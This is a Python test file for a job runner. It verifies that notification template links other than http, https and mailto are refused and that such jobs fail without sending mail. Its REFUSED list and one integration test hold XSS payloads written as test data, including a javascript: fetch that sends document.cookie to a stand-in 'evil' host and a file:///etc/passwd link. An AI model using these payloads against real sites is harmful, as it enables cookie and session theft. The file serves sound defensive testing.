"""Item 9, second half: links in notification templates are http(s) or mailto only; a
``javascript:`` (or any other) link fails the job permanently and nothing is sent."""

from __future__ import annotations

import pytest

from jobrunner.domain.errors import PermanentError
from jobrunner.notifications.templates import render
from tests.integration.api.conftest import auth
from tests.integration.jobtypes.conftest import settings, smtp, start_job, wait_final, worker  # noqa: F401
from tests.support.receivers import SmtpSink

REFUSED = [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x00javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example.com/x",
    "/relative/path",
    "https://",
    "mailto:",
    "https://example.com/a b",
    "x" * 10,
    "https://example.com/" + "a" * 2100,
    42,
    {"href": "https://x.y"},
]
ACCEPTED = [
    "https://example.com/reports/1?x=1&y=2#top",
    "http://example.com",
    "HTTPS://EXAMPLE.COM/",
    "mailto:ops@example.com?subject=Report",
]


@pytest.mark.parametrize("link", REFUSED)
def test_only_http_https_and_mailto_links_are_rendered(link: object) -> None:
    with pytest.raises(PermanentError, match="a link must be an http, https or mailto URL"):
        render("message", {"subject": "s", "body": "b", "link": link})


@pytest.mark.parametrize("link", ACCEPTED)
def test_safe_links_are_rendered_escaped(link: str) -> None:
    rendered = render("message", {"subject": "s", "body": "b", "link": link})
    assert link in rendered.text
    assert f'href="{link.replace("&", "&amp;")}"' in rendered.html


async def test_a_javascript_link_fails_the_job_and_sends_nothing(client, worker, smtp: SmtpSink) -> None:
    job_id = await start_job(
        client,
        "notification",
        {
            "channel": "email",
            "recipients": ["user_viewer"],
            "template": "message",
            "data": {"subject": "Your report", "body": "Click", "link": "javascript:fetch('//evil/'+document.cookie)"},
        },
        user="user_member",
    )
    job = await wait_final(client, job_id, user="user_member")
    assert job["status"] == "failed" and job["retryCount"] == 0, job
    assert job["errorMessage"] == "Invalid notification payload: a link must be an http, https or mailto URL"
    assert smtp.messages == []
    response = await client.get(f"/v1/jobs/{job_id}/status", headers=auth("user_member"))
    assert "javascript:" not in response.json()["job"]["errorMessage"]
